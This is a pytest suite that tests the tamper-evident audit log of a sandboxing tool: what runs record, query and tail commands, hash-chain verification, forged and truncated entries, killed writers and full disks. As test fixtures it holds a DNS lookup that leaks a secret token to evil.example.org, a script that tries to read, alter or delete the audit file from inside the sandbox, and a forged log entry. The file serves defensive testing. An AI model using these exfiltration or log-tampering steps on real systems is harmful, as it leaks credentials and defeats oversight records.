"""The audit record: runs are in it, it can be checked, and nothing that goes wrong loses or forges an entry."""
import hashlib
import json
import os
import re
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from helpers import ocsf, places, requirement
from helpers.runner import wait_for

pytestmark = requirement("R45", "R68", "R86")
REPO = Path(__file__).resolve().parents[2]
ZERO = "0" * 64


def folder(cloche):
    return cloche.state / "cloche" / "audit"


def entries(cloche, *words):
    result = cloche("audit", "query", "--json", *words)
    assert result.ok, result
    return [json.loads(line) for line in result.out.splitlines()]


def holds(cloche, *words):
    result = cloche("audit", "verify", "--json", *words)
    assert result.ok and result.json["holds"], result
    return result.json


def events(found):
    return [e.get("metadata", {}).get("event") for e in found]


# --- what is in it ---------------------------------------------------------------------------------------------------

def test_a_run_is_in_the_record(anyone):
    result = anyone("run", "--pids", "64", "--", "sh", "-c", "exit 7")
    assert result.code == 7, result
    start, end = entries(anyone, "--type", "sandbox_lifecycle")
    assert (start["seq"], end["seq"], start["prev"]) == (1, 2, ZERO) and end["prev"] == start["hash"]
    assert start["sandbox"] == end["sandbox"] and re.fullmatch("[0-9a-f]{32}", start["sandbox"])
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", start["timestamp"])
    said = start["metadata"]
    assert (said["event"], said["mode"], said["engine"], said["command"], said["words"]) == (
        "start", "standard", "native", "sh", 3)
    assert said["argv_sha256"] == hashlib.sha256(b"sh\0-c\0exit 7\0").hexdigest()
    assert {"memory_by", "pids_by", "disk_by", "policy", "uid"} <= set(said)
    assert (end["metadata"]["event"], end["metadata"]["exit_code"], end["metadata"]["reason"]) == ("end", 7, "exited")
    assert holds(anyone)["entries"] == len(entries(anyone))
    assert (folder(anyone) / "audit.jsonl").stat().st_mode & 0o777 == 0o600


def test_a_fifo_in_its_place_is_not_waited_for(cloche):
    folder(cloche).mkdir(0o700, parents=True)
    os.mkfifo(folder(cloche) / "audit.jsonl", 0o600)
    for words in (("verify",), ("query",), ("tail",), ("export",)):
        refused = cloche("audit", *words, timeout=60)
        assert refused.code == 125 and "audit.folder" in refused.err, refused
    ran = cloche("run", "--", "true")
    assert ran.ok and "audit.folder" in ran.err, ran


def test_limits_and_signals_are_in_the_record(cloche):
    assert cloche("run", "--timeout", "200ms", "--grace", "100ms", "--", "sleep", "60").code == 124
    end = entries(cloche, "--severity", "warn", "--type", "sandbox_lifecycle")[-1]
    assert end["metadata"]["timed_out"] is True and end["metadata"]["reason"] == "timeout"


def test_equal_policies_have_equal_digests(cloche):
    cloche("run", "--memory", "128m", "--pids", "50", "--", "true")
    cloche("run", "--pids", "50", "--memory", "131072k", "--", "true")
    cloche("run", "--memory", "129m", "--pids", "50", "--", "true")
    a, b, c = (e["metadata"]["policy"] for e in entries(cloche) if e.get("metadata", {}).get("event") == "start")
    assert a == b != c
    assert a == cloche("policy", "show", "--json", "--memory", "128m", "--pids", "50").json["digest"]


def test_mode_off_is_in_the_record(cloche):
    assert cloche("run", "--mode", "off", "--", "true").ok
    off, warning, end = entries(cloche)
    assert (off["type"], off["metadata"]["to"], off["severity"]) == ("sandbox_mode_transition", "off", "warn")
    assert (warning["type"], warning["summary"]) == ("plugin_fallback_attempt", "no sandbox: mode off")
    assert end["metadata"]["event"] == "end"


def test_a_run_that_could_not_begin_is_in_the_record(cloche):
    result = cloche("run", "--workspace", str(cloche.project / "gone"), "--", "true")
    assert result.code == 125
    found = entries(cloche) if (folder(cloche)).exists() else []
    assert all(e["metadata"]["event"] == "refused" for e in found)
    (cloche.project / "file").write_text("")
    assert cloche("run", "--engine", "native", "--", "/no/such/program").code == 127
    assert events(entries(cloche))[-2:] == ["start", "end"]


def test_off_writes_nothing(cloche):
    assert cloche("run", "--audit", "off", "--", "true").ok
    assert not folder(cloche).exists()
    missing = cloche("audit", "verify")
    assert missing.code == 125 and "[audit.none]" in missing.err


def test_what_cannot_be_written(cloche):
    (cloche.state / "cloche").write_text("a file where the folder should be")
    tried = cloche("run", "--", "echo", "ran")
    assert tried.ok and tried.out == "ran\n" and "not in the audit record" in tried.err, tried
    refused = cloche("run", "--audit", "required", "--", "echo", "ran")
    assert refused.code == 125 and refused.out == "" and "audit record is required" in refused.err, refused
    quiet = cloche("run", "--audit", "off", "--", "echo", "ran")
    assert quiet.ok and quiet.err == "", quiet


def test_required_is_on_the_disk_before_the_command_runs(cloche, command, has):
    has("strace")
    log = cloche.cwd / "trace"
    result = cloche.behind("strace", "-f", "-e", "trace=write,fdatasync,execve,execveat", "-o", str(log))(
        "run", "--audit", "required", "--", "/bin/true")
    if not result.ok:
        pytest.skip("strace does not work here")
    text = log.read_text(errors="replace")
    first, synced, began = text.find('{\\"seq\\":1'), text.find("fdatasync("), text.find('execve("/bin/true"')
    assert 0 <= first < synced < began, text


def test_no_value_is_in_the_record(cloche):
    secret, other = "s3cr3t-v4lue-0123", "P4ssed-through-456"
    cloche.env["PASSED"] = other
    result = cloche("run", "--env", f"TOKEN={secret}", "--env", "PASSED", "--allow-domain", "ok.example.org", "--",
                    "python3", "-c", f"""
import socket
for name in ("{secret}.evil.example.org", "{other}.evil.example.org"):
    try: socket.gethostbyname(name)
    except OSError: pass
""", "--password", secret)
    if result.code == 125:
        pytest.skip("no network by name here")
    text = (folder(cloche) / "audit.jsonl").read_text()
    assert "policy_decision" in text, text
    assert secret not in text and other.lower() not in text.lower(), text
    assert "[variable TOKEN].evil.example.org" in text and "[variable PASSED].evil.example.org" in text, text


@pytest.mark.root
def test_decisions_about_the_network_are_in_the_record(online, cloche):
    code = """
for i in range(3):
    talk(P, get('ok.example.org', 'http://ok.example.org/')); talk(P, get('evil.example.org', 'http://evil.example.org/'))
"""
    assert online.python(code).ok
    found = {(e["metadata"]["host"], e["metadata"]["decision"], e["severity"]): e
             for e in entries(cloche, "--type", "policy_decision")}
    refused = [e for e in entries(cloche, "--host", "evil.example.org")]
    assert ("ok.example.org", "allow", "info") in found and ("evil.example.org", "deny", "warn") in found, found
    assert sum(e["metadata"]["count"] for e in refused) == 3, refused
    assert {e["metadata"]["reason"] for e in refused} == {"network-no-rule"}
    assert entries(cloche, "--host", ".example.org", "--severity", "info")
    assert holds(cloche)


@pytest.mark.root
def test_rules_answers_and_deaths_are_in_the_record(online, cloche):
    from helpers.obedient import Obedient, kill_egress
    box = Obedient(online, allow=("ok.example.org",), flags=["--ask"])
    box.do("go('a', lambda: page('/', 'asked.example.org'))")
    question = wait_for(lambda: online.bare("approvals", "--json").json["questions"] or None)[0]
    assert online.bare("approvals", "deny", question["id"]).ok
    box.do("get_of('a')")
    run = online.bare("net", "ls", "--json").json["runs"][0]["id"]
    assert online.bare("net", "deny", run, "bad.example.org").ok
    kill_egress([])
    assert "hello ok.example.org" in box.do("page('/')")
    box.end()
    approval, = [e for e in entries(cloche, "--type", "privileged_capability_invocation")
                 if e["metadata"]["capability"] == "approval"]
    assert (approval["metadata"]["decision"], approval["metadata"]["host"], approval["metadata"]["by_uid"]) == (
        "deny", "asked.example.org", os.getuid())
    assert entries(cloche, "--text", "waits for a decision")[0]["metadata"]["decision"] == "ask"
    rule, = [e for e in entries(cloche, "--type", "privileged_capability_invocation")
             if e["metadata"]["capability"] == "network_rule"]
    assert (rule["metadata"]["decision"], rule["metadata"]["rule"]) == ("deny", "bad.example.org")
    death, = entries(cloche, "--type", "fetch_proxy_error")
    assert (death["metadata"]["how"], death["severity"]) == ("signal 9", "error")
    assert holds(cloche)
    for line in cloche("audit", "export", "--format", "ocsf").out.splitlines():
        ocsf.check(json.loads(line))


def test_code_is_in_the_record_by_its_hash(cloche):
    code = b"print(6 * 7)\n"
    result = cloche("code", "--language", "python", "-", stdin=code)
    assert result.out == "42\n", result
    start = next(e for e in entries(cloche) if e.get("metadata", {}).get("event") == "start")
    assert start["metadata"]["code_sha256"] == hashlib.sha256(code).hexdigest()


REACH = """
import os, sys
place = sys.argv[1]
for how in (lambda: open(place + '/audit.jsonl').read(), lambda: open(place + '/audit.jsonl', 'a').write('x'),
            lambda: os.rename(place, place + 'x'), lambda: os.mkdir(place), lambda: open(place + '/y', 'w').close(),
            lambda: os.unlink(place + '/audit.jsonl'), lambda: os.rename(os.path.dirname(place), place + 'z')):
    try: how(); print('REACHED')
    except OSError: pass
print('tried')
"""


@pytest.mark.parametrize("flags", [["--bind", "{}:{}:rw"], ["--view", "host", "--allow-write", "{}"]], ids=["bind", "host"])
def test_no_sandbox_reaches_it(cloche, bare, flags):
    """Even with the folder around it writable, and even when it is the first run that ever was."""
    place = folder(cloche)
    if places.IS_ROOT:
        os.chown(cloche.state, 1000, 1000)      # so that the attack is about the wall, not about owners
    for _ in range(2):
        result = cloche("run", *(f.replace("{}", str(cloche.state)) for f in flags), "--", "python3", "-c", REACH, str(place))
        if result.code == 125:
            pytest.skip(result.err)
        assert result.out == "tried\n", result
    assert holds(cloche)["entries"] >= 4
    assert "REACHED" in bare(REACH, args=[str(place)]).out, "without the wall it is reached"


def test_a_long_run_is_in_the_record_while_it_goes_on(cloche):
    box = cloche.popen("run", "--", "sh", "-c", "echo up; cat", stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    assert box.stdout.readline() == b"up\n"
    assert wait_for(lambda: folder(cloche).exists() and events(entries(cloche)) == ["start"])
    box.stdin.close()
    assert box.wait(60) == 0
    assert events(entries(cloche)) == ["start", "end"]


@requirement("R04")
def test_what_becomes_of_changes_is_in_the_record(cloche):
    (cloche.project / "a").write_text("1\n")
    for verb in ("apply", "discard"):
        result = cloche("run", "--workspace", f"{cloche.project}:cow", "--", "sh", "-c", f"echo {verb} > /workspace/a")
        if result.code == 125:
            pytest.skip("no copy-on-write workspaces here")
        assert cloche(verb, cwd=cloche.project).ok
    found = {e["metadata"]["capability"]: e["metadata"] for e in entries(cloche, "--type", "privileged_capability_invocation")}
    assert found["workspace_apply"]["applied"] == 1 and found["workspace_apply"]["project"] == str(cloche.project)
    assert found["workspace_discard"]["project"] == str(cloche.project)
    starts = [e["metadata"]["changes"] for e in entries(cloche) if e.get("metadata", {}).get("event") == "start"]
    assert starts == [found["workspace_apply"]["changes"], found["workspace_discard"]["changes"]]


# --- looking into it -------------------------------------------------------------------------------------------------

def three_runs(cloche):
    for code in (0, 1, 2):
        assert cloche("run", "--", "sh", "-c", f"exit {code}").code == code


def test_query_and_tail(cloche):
    three_runs(cloche)
    all_of_them = entries(cloche)
    assert len(all_of_them) == 6 and [e["seq"] for e in all_of_them] == [1, 2, 3, 4, 5, 6]
    sandbox = all_of_them[2]["sandbox"]
    assert [e["seq"] for e in entries(cloche, "--sandbox", sandbox[:8])] == [3, 4]
    assert [e["seq"] for e in entries(cloche, "--limit", "2")] == [5, 6]
    assert [e["seq"] for e in entries(cloche, "--text", "EXIT_CODE\":2")] == []
    assert [e["seq"] for e in entries(cloche, "--text", "a sandbox ended")] == [2, 4, 6]
    assert len(entries(cloche, "--since", "1h")) == 6 and entries(cloche, "--until", "2020-01-01") == []
    assert [json.loads(line)["seq"] for line in cloche("audit", "tail", "-n", "1", "--json").out.splitlines()] == [6]
    text = cloche("audit", "tail").out.splitlines()
    assert len(text) == 6 and "a sandbox was started" in text[0] and "exit_code=2" in text[5]


def test_tail_follows(cloche):
    three_runs(cloche)
    tail = cloche.popen("audit", "tail", "-f", "-n", "1", "--json", stdout=subprocess.PIPE)
    seen = [json.loads(tail.stdout.readline())["seq"]]
    assert cloche("run", "--", "true").ok
    (folder(cloche) / "audit.jsonl").rename(folder(cloche) / f"audit-{1:020d}.jsonl")     # and it changes files
    assert cloche("run", "--", "true").ok
    seen += [json.loads(tail.stdout.readline())["seq"] for _ in range(4)]
    assert seen == [6, 7, 8, 9, 10]
    tail.send_signal(signal.SIGTERM)
    tail.communicate()


@pytest.mark.parametrize("words, code", [
    (["--type", "sandbox_lifecycl"], "cli.audit.type"), (["--severity", "bad"], "cli.audit.severity"),
    (["--since", "yesterday"], "cli.audit.time"), (["--expect", "00"], "cli.audit.expect"),
    (["--format", "xml"], "cli.audit.format"), (["--limit", "-1"], "cli.audit.limit"), (["--nothing"], "cli.unknown-flag"),
    (["--type"], "cli.flag-value"), (["-f"], "cli.audit.follow"),
])
def test_mistakes_are_named(cloche, words, code):
    for form in ([], ["--json"]):
        result = cloche("audit", "query", *form, *words)
        assert result.code == 125 and code in result.err + result.out, result


# --- checking it -----------------------------------------------------------------------------------------------------

def spoil(path, at, data):
    text = bytearray(path.read_bytes())
    text[at:at + len(data)] = data
    path.chmod(0o600)
    path.write_bytes(text)


def test_a_changed_entry_is_named(cloche):
    three_runs(cloche)
    path = folder(cloche) / "audit.jsonl"
    lines = path.read_bytes().split(b"\n")
    spoil(path, len(lines[0]) + 1 + lines[1].index(b'"exit_code":0') + 12, b"5")
    result = cloche("audit", "verify", "--json")
    assert result.code == 1 and not result.json["holds"], result
    assert (result.json["bad"]["entry"], result.json["bad"]["line"], result.json["bad"]["file"]) == (2, 2, str(path))
    text = cloche("audit", "verify")
    assert text.code == 1 and "BROKEN: entry 2" in text.out, text


def test_a_forged_entry_does_not_fit(cloche):
    """Somebody who knows how hashes are made writes one in the middle; the next one gives it away."""
    three_runs(cloche)
    path = folder(cloche) / "audit.jsonl"
    lines = path.read_bytes().split(b"\n")
    body = lines[2].rpartition(b',"hash":"')[0].replace(b'"command":"sh"', b'"command":"ls"')
    lines[2] = body + b',"hash":"' + hashlib.sha256(body).hexdigest().encode() + b'"}'
    path.write_bytes(b"\n".join(lines))
    result = cloche("audit", "verify", "--json")
    assert result.code == 1 and result.json["bad"]["entry"] == 4, result


def test_a_cut_end_needs_somebody_who_knows_it(cloche):
    three_runs(cloche)
    head = holds(cloche)["head"]
    path = folder(cloche) / "audit.jsonl"
    assert holds(cloche, "--expect", head)["expected_entry"] == 6
    path.write_bytes(b"".join(path.read_bytes().splitlines(keepends=True)[:5]))
    assert holds(cloche)["entries"] == 5
    result = cloche("audit", "verify", "--json", "--expect", head)
    assert result.code == 1 and result.json["bad"]["entry"] == 6, result
    assert cloche("run", "--", "true").ok       # grown again, and still not what it was
    assert cloche("audit", "verify", "--expect", head).code == 1


def test_what_is_exported_can_be_checked_elsewhere(cloche):
    three_runs(cloche)
    exported = cloche("audit", "export").out_bytes
    assert exported == (folder(cloche) / "audit.jsonl").read_bytes()
    (cloche.cwd / "copy").write_bytes(exported)
    assert holds(cloche, "copy")["entries"] == 6
    (cloche.cwd / "part").write_bytes(b"".join(exported.splitlines(keepends=True)[2:4]))
    part = holds(cloche, "part")
    assert part["partial"] and (part["first"], part["last"]) == (3, 4)


def script():
    text = (REPO / "docs" / "audit.md").read_text(encoding="utf-8")
    return re.search(r"```python\n(.*?)```", text, flags=re.S).group(1)


def test_the_script_in_the_manual_checks_it(cloche):
    three_runs(cloche)
    path = folder(cloche) / "audit.jsonl"

    def check():
        return subprocess.run([sys.executable, "-I", "-S", "-c", script(), path], capture_output=True, text=True, check=False)
    done = check()
    assert done.returncode == 0 and done.stdout.split() == ["6", holds(cloche)["head"]], done
    text = path.read_bytes()
    for at in range(10, len(text), 97):
        spoil(path, at, b"#")
        assert check().returncode != 0, at
        path.write_bytes(text)


def test_ocsf(cloche):
    three_runs(cloche)
    cloche("run", "--mode", "off", "--", "true")
    found = [json.loads(line) for line in cloche("audit", "export", "--format", "ocsf").out.splitlines()]
    for event in found:
        ocsf.check(event)
    assert [e["type_uid"] for e in found[:2]] == [600203, 600204]
    for spoiled in ({"severity_id": 17}, {"activity_id": "3"}, {"metadata": {}}, {"surprise": 1}, {"time": None}):
        with pytest.raises(AssertionError):
            ocsf.check({**found[0], **spoiled})


# --- writers that die, fight, or find no room ------------------------------------------------------------------------

@pytest.fixture
def writer(binary):
    path = places.find_beside(binary, "tests/lib/audit_writer")
    if path is None:
        pytest.skip("audit_writer is not built")
    return str(path)


def words_of(text):
    return [json.loads(line)["metadata"].get("word") for line in text.splitlines()]


@requirement("R91")
@pytest.mark.parametrize("how", ["lazy", "durable"])
def test_kill_9_of_writers_loses_nothing(cloche, writer, how):
    """Each is killed when it has said that so many entries are written; what was said is there, once, in order."""
    place = cloche.cwd / "record"
    said = {}
    for turn in range(12):
        running = {f"t{turn}w{n}": subprocess.Popen([writer, str(place), f"t{turn}w{n}", "100000", "3", "20000", "1000", how],
                                                    stdout=subprocess.PIPE, stderr=subprocess.PIPE) for n in range(3)}
        for n, (name, process) in enumerate(running.items()):
            for _ in range(1 + (turn * 7 + n * 3) % 11):
                assert process.stdout.readline(), (process.wait(60), process.stderr.read())
            process.kill()
        for name, process in running.items():
            rest = process.communicate()[0]
            last = re.findall(rb"^(\d+)\n", rest, flags=re.M)
            said[name] = int(last[-1]) if last else 3 * (1 + (turn * 7 + int(name[-1]) * 3) % 11)
    subprocess.run([writer, str(place), "last", "1", "1", "0", "1000", how], check=True, capture_output=True)
    verdict = holds(cloche, "--dir", str(place))
    found = words_of(cloche("audit", "export", "--dir", str(place)).out)
    assert len(found) == verdict["entries"] and verdict["files"] > 1
    for name, count in said.items():
        mine = [w for w in found if w and w.startswith(name + "-")]
        assert mine == [f"{name}-{i}" for i in range(len(mine))], "in order, none twice, none missing between"
        assert len(mine) >= count, (name, count, len(mine))
    # who set a torn end aside may be killed before that is on record: the next one does so again
    aside = {path.name.split("-")[2] for path in place.glob("audit-damaged-*")}
    assert len(aside) == verdict["recoveries"]


def test_many_runs_at_a_time(cloche):
    boxes = [cloche.popen("run", "--", "sh", "-c", f"exit {n}") for n in range(20)]
    assert [box.wait(120) for box in boxes] == list(range(20))
    found = entries(cloche)
    assert holds(cloche)["entries"] == len(found)
    assert sorted(e["metadata"]["exit_code"] for e in found if e.get("metadata", {}).get("event") == "end") == list(range(20))
    assert len({e["sandbox"] for e in found}) == 20


@requirement("R91")
def test_a_full_disk(cloche, command, writer):
    """A small file system of its own: what was said to be written is, half entries are not, and with room it goes on."""
    inside = f"""
set -e
mount -t tmpfs -o size=64k none {cloche.tmp}
head -c 30000 /dev/zero > {cloche.tmp}/filler
{writer} {cloche.tmp}/record full 100000 1 1000000 10 durable > {cloche.cwd}/said 2> {cloche.cwd}/why || true
cp {cloche.tmp}/record/audit.jsonl {cloche.cwd}/full.jsonl
rm {cloche.tmp}/filler
{writer} {cloche.tmp}/record more 5 1 1000000 10 durable > /dev/null
cp {cloche.tmp}/record/audit.jsonl {cloche.cwd}/more.jsonl
"""
    words = ["unshare", "-m"] if places.IS_ROOT else ["unshare", "-Urm"]
    if not command([*words, "true"], check=False).ok:
        pytest.skip("no mount namespace here")
    command([*words, "sh", "-c", inside])
    assert (cloche.cwd / "why").read_text().startswith("audit.write: "), (cloche.cwd / "why").read_text()
    said = int((cloche.cwd / "said").read_text().split()[-1])
    assert said > 10 and holds(cloche, "full.jsonl")["entries"] == said
    assert holds(cloche, "more.jsonl")["entries"] == said + 5


@pytest.mark.root
def test_a_run_that_must_be_recorded_ends_when_the_disk_is_full(cloche, command, binary):
    """Nothing more of it happens once its entries cannot be written."""
    state = cloche.cwd / "small"
    state.mkdir()
    inside = f"""
mount -t tmpfs -o size=64k none {state}
export XDG_STATE_HOME={state}
{binary} run --audit required -- true || exit 1
head -c 100000 /dev/zero > {state}/filler 2>/dev/null
for i in 1 2 3 4 5 6 7 8 9; do      # as long as the last page of the file has room
    {binary} run --audit required -- echo ran
    echo $?
done
{binary} audit verify
"""
    result = command(["unshare", "-m", "sh", "-c", inside])
    lines = result.out.splitlines()
    full = lines.index("125")       # the beginning or the end of that run could not be written
    assert lines[full:].count("125") >= 3 and "ran" not in lines[full:] and "the chain holds" in result.out, result
    assert "audit record is required" in result.err and "[audit.write]" in result.err, result
